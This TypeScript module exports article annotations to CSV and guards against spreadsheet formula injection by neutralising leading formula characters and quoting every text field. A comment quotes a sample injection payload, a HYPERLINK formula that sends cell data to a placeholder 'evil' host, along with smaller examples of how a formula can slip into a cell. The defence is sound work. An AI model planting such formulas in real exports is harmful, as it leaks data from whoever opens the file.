import { stringify } from "csv-stringify/sync";
import type { AnnotationView } from "../services/annotation-view.ts";
import { closeBidi } from "./bidi.ts";
import type { ExportArticle, ExportData } from "./load.ts";
import { webUrl } from "./web-url.ts";

type Cell = string | number;

const COLUMNS: [header: string, read: (a: AnnotationView, article: ExportArticle) => Cell | null | undefined][] = [
  ["id", (a) => a.id],
  ["article_id", (_, article) => article.id],
  ["article_title", (_, article) => article.title],
  ["kind", (a) => a.kind],
  ["status", (a) => a.status],
  ["visibility", (a) => a.visibility],
  ["author_name", (a) => a.author.name],
  ["created", (a) => new Date(a.createdAt).toISOString()],
  // Any change, a resolve or a moderator's hide among them.
  ["updated", (a) => new Date(a.updatedAt).toISOString()],
  // When the body or fact-check last changed, which readers see marked "edited"; empty until then.
  ["edited", (a) => (a.editedAt ? new Date(a.editedAt).toISOString() : null)],
  ["quote", (a) => a.target?.exact],
  // An orphan's positions are on the revision it was lost on, other words of the article as it now reads (as the
  // W3C export leaves out its position selector); its quote and anchor_state still tell what it was on.
  ["start", (a) => placed(a)?.start],
  ["end", (a) => placed(a)?.end],
  ["body", (a) => a.body],
  // The body's BCP 47 tag, so that a spreadsheet of several languages can be sorted or filtered by it.
  ["language", (a) => a.language],
  ["tags", (a) => a.tags.join(";")],
  ["claim", (a) => a.factcheck?.claim],
  ["verdict", (a) => a.factcheck?.verdict],
  ["confidence", (a) => a.factcheck?.confidence],
  ["sources", (a) => a.factcheck?.sources.map((s) => webUrl(s.url) ?? s.url).join(" ")],
  ["resolved", (a) => String(a.resolved)],
  ["parent_id", (a) => a.parentId],
  ["votes_agree", (a) => a.votes.agree],
  ["votes_disagree", (a) => a.votes.disagree],
  ["anchor_state", (a) => a.anchor.state],
  ["stale", (a) => String(a.stale)],
];

const placed = (a: AnnotationView) => (a.anchor.state === "orphaned" ? null : a.target);

export const CSV_HEADER = COLUMNS.map(([header]) => header);

/**
 * A spreadsheet treats a cell that starts with one of these as a formula, so
 * a body such as `=HYPERLINK("http://evil/?"&A1)` would run when a colleague
 * opens the export (OWASP "CSV injection"). A leading apostrophe makes
 * Excel, LibreOffice and Sheets show the text as typed. It is applied to every
 * text cell, ids included, because the file's author cannot know which
 * columns a reader will open; numbers are written as numbers and left alone.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function neutralizeFormula(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/**
 * How every CSV the server writes is written: RFC 4180 (CRLF, quotes). The byte-order mark is what makes Excel read the file as UTF-8
 * rather than the machine's legacy code page, which would garble every
 * non-ASCII name. csv-stringify quotes a field holding its own record
 * delimiter, CRLF, but not a bare CR or LF, and spreadsheets start a new row
 * at either: a body of "fine\n=1+2" left its second line as a cell of its own,
 * past the formula guard above. So every text field is quoted, which also
 * keeps a line break in one cell, and keeps one cell for a spreadsheet set to
 * read semicolons as separators (common in European locales), which split an
 * unquoted "news;=1+2" of the tags column into a new cell starting with "=".
 */
export const CSV_OPTIONS = { bom: true, record_delimiter: "windows", quoted_string: true } as const;

/** One row per annotation, header first. */
export function toCsv(data: ExportData): string {
  const rows = data.articles.flatMap((article) =>
    article.annotations.map((a) =>
      COLUMNS.map(([, read]) => {
        const value = read(a, article);
        if (value === null || value === undefined) return "";
        // A control a cell leaves open would reverse the cells shown after it (bidi.ts).
        return typeof value === "number" ? value : neutralizeFormula(closeBidi(value));
      }),
    ),
  );
  return stringify([CSV_HEADER, ...rows], CSV_OPTIONS);
}
